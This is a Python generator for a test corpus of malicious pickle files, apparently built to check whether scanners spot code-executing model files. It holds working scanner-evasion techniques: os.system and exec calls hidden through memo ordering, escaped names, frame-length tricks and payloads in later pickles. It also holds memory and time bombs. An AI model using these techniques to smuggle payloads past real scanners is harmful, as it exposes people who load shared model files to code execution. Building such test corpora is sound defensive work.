"""Streams that a loader runs and that a careless parser misreads, gives up on, or stops reading too early."""

import struct

from malicious_ops import (
    PAYLOAD, PAYLOAD4, SHELL, Append, Build, Call, Items, New, Obj, attr, body, c, call, dump, g,
    system, u, v, wrap, x,
)

P4 = b"\x80\x04"
P2 = b"\x80\x02"
BENIGN = dump({"weights": [0.1, 0.2, 0.3], "epoch": 4}, 4)


def frame(data):
    """One FRAME around the data."""
    return b"\x95" + struct.pack("<Q", len(data)) + data


def frame_divergence():
    """The layout of cpython issue 154848: filler up to the file reader's block, then BINBYTES across a frame end."""
    hidden = PAYLOAD + b"("
    out = b"\x80\x05N" + b"V" + b"a" * (8192 * 16 - 17) + b"\n0("
    out += frame(b"")[:1] + struct.pack("<Q", 2) + b"B\x07\x01\x00\x00"
    out += b"\x00\x00" + hidden.ljust(256 + 5, b"N") + b"1."
    return out


def memo():
    """Names hidden by the order in which memo slots are written."""
    os_, system_ = v("os"), v("system")
    call_ = b"\x93" + x(SHELL) + b"\x85R"
    yield "put-then-memoize", os_ + b"p0\n0" + system_ + b"\x940h\x00h\x01" + call_
    yield "memoize-counts-entries", v("a") + b"p7\n0" + os_ + b"\x940" + system_ + b"\x940h\x01h\x02" + call_
    yield "binput-overwrites", v("math") + b"q\x000" + v("floor") + b"q\x010" + os_ + b"q\x000" + system_ + (
        b"q\x010h\x00h\x01") + call_
    yield "long-binput", os_ + b"r\x00\x00\x01\x000" + system_ + b"r\x01\x00\x01\x000j\x00\x00\x01\x00j\x01\x00\x01\x00" + (
        call_)
    yield "put-text-index", os_ + b"p000000012\n0" + system_ + b"p13\n0g12\ng13\n" + call_
    yield "decoy-names-between", os_ + b"\x94" + system_ + b"\x94" + v("collections") + v("OrderedDict") + (
        b"\x930h\x00h\x01") + call_
    yield "memoized-callable-late", c("os", "system") + b"q\x050" + c("collections", "OrderedDict") + b")R0h\x05" + (
        x(SHELL) + b"\x85R")
    yield "memo-across-mark", b"(" + os_ + b"\x94" + system_ + b"\x941" + b"h\x00h\x01" + call_


# What follows the payload; the payload has run when the loader meets it.
AFTER = [
    ("stack-underflow", b"00000.", "POP on an empty stack"),
    ("truncated", b"X\xff\x00", "file ends inside an argument"),
    ("missing-stop", b"", "no STOP"),
    ("missing-stop-data", b"]q\x01(K\x01", "no STOP, open MARK"),
    ("invalid-opcode", b"\xff\xff\xff.", "byte that is no opcode"),
    ("zero-bytes", b"\x00" * 64 + b".", "zero bytes"),
    ("binbytes8-huge", b"\x8e" + b"\xff" * 7 + b"\x7f.", "length beyond memory"),
    ("binunicode8-huge", b"\x8d" + b"\xff" * 8 + b".", "length beyond memory"),
    ("bytearray8-huge", b"\x96" + b"\xff" * 7 + b"\x3f.", "length beyond memory"),
    ("long4-negative", b"\x8b\xff\xff\xff\xff.", "negative length"),
    ("binstring-negative", b"T\xff\xff\xff\xff.", "negative length"),
    ("frame-huge", b"\x95" + b"\xff" * 7 + b"\x7f.", "frame beyond the file"),
    ("get-unknown", b"h\xfe.", "memo slot never written"),
    ("tuple-without-mark", b"t.", "no MARK"),
    ("bad-utf8", b"X\x02\x00\x00\x00\xff\xfe.", "invalid UTF-8"),
    ("string-unquoted", b"Sabc\n.", "STRING without quotes"),
    ("global-missing-newline", b"cos", "GLOBAL cut short"),
    ("global-non-ascii", b"c\xc3\xa9t\xc3\xa9\nx\n.", "name that is not ASCII"),
    ("global-backslash", b"cos\\\nx\n.", "trailing backslash"),
    ("huge-memo-index", b"r\xff\xff\xff\x7f.", "memo index of two thousand million"),
    ("setitem-on-int", b"K\x01K\x02s.", "SETITEM on a number"),
    ("build-on-none", b"N}b.", "BUILD on None"),
    ("next-buffer", b"\x97.", "out of band buffer"),
    ("persid-without-loader", b"Pabc\n.", "persistent id without a loader"),
    ("proto-99", b"\x80\x63.", "unknown protocol late"),
    ("ext-unknown", b"\x82\x99.", "unknown extension code"),
    ("int-bad", b"Iabc\n.", "INT that is no number"),
    ("float-bad", b"Fabc\n.", "FLOAT that is no number"),
    ("long-digits", b"L" + b"9" * 5000 + b"L\n.", "more digits than int() accepts"),
]

# What stands before the payload; a loader accepts it.
BEFORE = [
    ("hex-int", b"I0x10\n0", "INT in base 16: accepted by the C loader, refused by int()"),
    ("octal-int", b"I0777\n0", "INT with a leading zero"),
    ("padded-int", b"I" + b"0" * 300 + b"1\n0", "INT with 300 zeros"),
    ("long1-padded", b"\x8a\x08\x01\x00\x00\x00\x00\x00\x00\x000", "LONG1 with padding"),
    ("long1-empty", b"\x8a\x000", "LONG1 of no bytes"),
    ("long4-empty", b"\x8b\x00\x00\x00\x000", "LONG4 of no bytes"),
    ("many-proto", b"\x80\x04\x80\x02\x80\x03" * 40, "PROTO 120 times"),
    ("many-marks", b"(" * 5000, "MARKs never used"),
    ("pop-mark-junk", b"(NNNN" + u("x") + b"1" * 1, "POP_MARK throws values away"),
    ("dup-pop", b"N" + b"20" * 2000 + b"0", "DUP and POP in turn"),
    ("empty-frames", frame(b"") * 50, "frames of no bytes"),
    ("nested-frames", b"\x95\x14\x00\x00\x00\x00\x00\x00\x00\x95\x02\x00\x00\x00\x00\x00\x00\x00N0", "frame in a frame"),
    ("deep-tuples", b")" + b"\x85" * 20000 + b"0", "20,000 nested tuples"),
    ("deep-lists", b"(" * 3000 + b"l" * 3000 + b"0", "3,000 nested lists"),
    ("string-double-quotes", b'S"it\\x27s"\n0', "STRING with double quotes and escapes"),
    ("binstring", b"T\x03\x00\x00\x00abc0U\x01x0", "Python 2 strings"),
    ("string-high-byte", b"S'\\xff'\n0", "byte above ASCII: loaders with encoding latin1"),
    ("surrogate", b"X\x03\x00\x00\x00\xed\xa0\x800", "lone surrogate"),
    ("unicode-escapes", b"V\\ud83d\\u0041\\n\n0", "raw unicode escapes"),
    ("float-forms", b"Finf\n0F-nan\n0F1e400\n0", "odd floats"),
    ("bytearray", b"\x96\x04\x00\x00\x00\x00\x00\x00\x00abcd0", "BYTEARRAY8"),
    ("sets", b"\x8f(K\x01K\x02\x900(K\x01\x910", "EMPTY_SET, ADDITEMS, FROZENSET"),
    ("readonly-buffer", b"C\x01a\x980", "READONLY_BUFFER"),
    ("no-ops", b"N0" * 150000, "300,000 idle opcodes"),
    ("long-string", b"X" + struct.pack("<I", 1500000) + b"A" * 1500000 + b"0", "string of 1.5 MB"),
    ("long-line", b"V" + b"B" * 400000 + b"\n0", "line of 400 KB"),
    ("many-memos", b"N" + b"".join(b"r" + struct.pack("<I", n) for n in range(256, 6256)) + b"0", "6,000 memo slots"),
    ("bytes-full-of-decoys", b"B" + struct.pack("<I", 46) + b"cnumpy\nload\n" + b"." * 34 + b"0", "opcodes inside bytes"),
]


def names():
    """Names written in ways a text search does not see."""
    tail = b"\x93" + x(SHELL) + b"\x85R"
    yield "unicode-escaped-names", v("\\u006f\\u0073") + v("\\u0073ystem") + tail, "raw unicode escapes"
    yield "string-hex-names", b"S'\\x6f\\x73'\nS'\\x73\\x79\\x73tem'\n" + tail, "STRING with hex escapes"
    yield "string-octal-names", b"S'\\157\\163'\nS'system'\n" + tail, "STRING with octal escapes"
    yield "string-doublequoted-names", b'S"os"\nS"system"\n' + tail, "double quotes"
    yield "short-binstring-names", b"U\x02osU\x06system" + tail, "Python 2 strings"
    yield "binstring-names", b"T\x02\x00\x00\x00osT\x06\x00\x00\x00system" + tail, "Python 2 strings"
    yield "binunicode8-names", b"\x8d\x02\x00\x00\x00\x00\x00\x00\x00os" + x("system") + tail, "BINUNICODE8"
    yield "mark-between-names", u("os") + b"(1" + u("system") + tail, "MARK and POP_MARK between"
    yield "values-between-names", u("os") + u("decoy") + u("popen") + b"00" + u("system") + tail, "popped decoys between"
    yield "proto-between-names", u("os") + b"\x80\x04" + u("system") + tail, "PROTO between"
    yield "frame-between-names", u("os") + frame(b"") + u("system") + tail, "FRAME between"
    yield "text-argument-escaped", c("os", "system") + v("\\u0065cho CLEANBILL-INERT") + b"\x85R", "escaped command"
    yield "dup-name", u("os") + b"20" + u("system") + tail, "DUP then POP"


def positions():
    """Calls at places a reader of results does not look."""
    yield "dict-key", dump({system(): 1}, 4), "call is a dict key"
    yield "build-state", dump(Build(New(g("collections:OrderedDict")), system()), 4), "call gives the BUILD state"
    yield "set-member", wrap(b"\x8f(" + PAYLOAD4 + b"\x90"), "call gives a set member"
    yield "frozenset-member", wrap(b"(" + PAYLOAD4 + b"\x91"), "call gives a frozenset member"
    yield "setitem-value", dump(Items({}, ("a", system())), 2), "call gives a SETITEM value"
    yield "append-value", dump(Append([], system()), 2), "call gives an APPEND value"
    yield "argument-of-benign", dump(call("collections:OrderedDict", [("k", system())]), 4), "inside benign arguments"
    yield "deep-in-list", dump([[[[[[[system()]]]]]]], 4), "seven lists deep"
    yield "result-popped", wrap(PAYLOAD4 + b"0" + body({"ok": True}, 4)), "result popped, benign value returned"
    yield "result-pop-mark", wrap(b"(" + PAYLOAD4 + b"1" + body({"ok": True}, 4)), "result thrown away by POP_MARK"
    yield "obj-args", dump(Obj(g("collections:OrderedDict"), [("k", system())]), 4), "argument of OBJ"
    yield "after-large-state", dump({"layer%d" % n: [n * 0.5] * 8 for n in range(800)} | {"x": system()}, 4), (
        "after 800 benign entries")
    yield "persid-argument", wrap(PAYLOAD4 + b"Q"), "call gives the persistent id"


def later():
    """Payload in a pickle after the first."""
    evil = dump(system(), 2)
    yield "second-pickle", BENIGN + evil, "second pickle of the file"
    yield "tenth-pickle", BENIGN * 9 + evil, "tenth pickle of the file"
    yield "five-hundredth-pickle", dump(None, 0) * 499 + evil, "500th pickle of the file"
    yield "after-protocol-0", b"I1\n." + evil, "after a protocol 0 pickle"
    yield "after-zero-padding", BENIGN + b"\x00" * 512 + evil, "zero bytes between"
    yield "after-raw-floats", BENIGN + struct.pack("<64f", *range(64)) + evil, "array bytes between"
    yield "after-stop-on-empty", dump(system(), 4) + b".....", "STOP repeated after"
    yield "appended-to-empty-dict", b"}." + evil, "two-byte pickle first"


def frames():
    """FRAME lengths that do not agree with the opcodes."""
    yield "frame-file-reader", frame_divergence(), "cpython-154848", "BINBYTES crosses the frame at a reader block"
    hidden = PAYLOAD + b"."
    yield "frame-argument-crosses", b"\x80\x04N" + b"\x95" + struct.pack("<Q", 5) + b"B" + struct.pack(
        "<I", len(hidden)) + hidden + b"0" + PAYLOAD4 + b".", "cpython-154848", "argument crosses the frame end"
    yield "frame-too-short", b"\x80\x04\x95" + struct.pack("<Q", 3) + PAYLOAD4 + b".", None, "frame ends inside a name"
    yield "frame-inside-string", P4 + b"C\x09\x95" + struct.pack("<Q", 1 << 32) + b"0" + PAYLOAD4 + b".", None, (
        "FRAME bytes inside BINBYTES")
    yield "frame-one-byte-each", P4 + b"".join(frame(bytes([byte])) for byte in b"N0N0") + PAYLOAD4 + b".", None, (
        "one frame per opcode")
    yield "frame-protocol-2", P2 + frame(PAYLOAD + b"."), None, "FRAME under protocol 2"
    yield "frame-overlong-body", P4 + frame(PAYLOAD4 + b"." + b"N" * 40), None, "frame goes on after STOP"


def build(corpus):
    """Adds the groups `parser-evasion` and `resource-exhaustion`."""
    names_cycle = ("model.pkl", "weights.pkl", "state.pickle", "data.pkl")

    def add(slug, data, technique, advisory=None, note=""):
        count = len(corpus.samples)
        prefix = "" if advisory else "evasion-"
        corpus.add("parser-evasion", prefix + slug, names_cycle[count % 4], data, technique, advisory, note)

    for slug, opcodes in memo():
        add("memo-" + slug, wrap(opcodes, 4, frame=False), "memo order")
    for slug, tail, note in AFTER:
        add("after-" + slug, P4 + PAYLOAD4 + tail, "broken after the payload", note=note)
    for slug, head, note in BEFORE:
        add("before-" + slug, P4 + head + PAYLOAD4 + b".", "odd opcodes before the payload", note=note)
    for slug, opcodes, note in names():
        add("names-" + slug, wrap(opcodes, 4, frame=False), "names written oddly", note=note)
    for slug, data, note in positions():
        add("place-" + slug, data, "call in an unusual place", note=note)
    for slug, data, note in later():
        add("later-" + slug, data, "payload in a later pickle", note=note)
    for slug, data, advisory, note in frames():
        add(slug, data, "FRAME boundaries", advisory, note)
    add("no-proto-protocol-4-opcodes", PAYLOAD4 + b".", "no PROTO", note="protocol 4 opcodes without PROTO")
    add("proto-0-header", b"\x80\x00" + PAYLOAD + b".", "PROTO 0", note="PROTO with version 0")
    add("exec-import-in-text", dump(call("builtins:exec", "__import__('o'+'s').system('echo '+'CLEANBILL-INERT')"), 4),
        "code as text", note="names split in the code")

    def exhaust(slug, data, note):
        corpus.add("resource-exhaustion", "exhaust-" + slug, "model.pkl", data, "memory or time bomb", note=note)

    exhaust("tuple-hash", P4 + b"})" + b"2\x86" * 60 + b"K\x01s.", "dict key whose hash visits 2**60 tuples")
    exhaust("list-tower", P4 + b"]" + b"(]" * 30000 + b"e" * 30000 + b".", "30,000 nested lists")
    power = body(call("operator:pow", 10, 100000000), 4)
    exhaust("huge-power", wrap(power), "operator.pow with a large exponent")
    exhaust("huge-range-list", dump(call("builtins:list", call("builtins:range", 1 << 40)), 4), "list of 2**40 numbers")
    exhaust("huge-bytes", dump(call("builtins:bytearray", 1 << 40), 4), "bytearray of 2**40 bytes")
    exhaust("huge-repeat", dump(call("operator:mul", "A", 1 << 40), 4), "string repeated 2**40 times")
    exhaust("quadratic-strings", dump(Call(attr("x" * 60000, "join"), ["y"] * 3000), 4), "string grown by join")
    exhaust("infinite-iterator", dump(call("builtins:list", call("itertools:count")), 4), "endless iterator")
    exhaust("sleep", dump(call("time:sleep", 86400), 4), "blocks the loader for a day")
    exhaust("regex", dump(call("re:fullmatch", "(a+)+$", "a" * 40 + "!"), 4), "catastrophic regex")
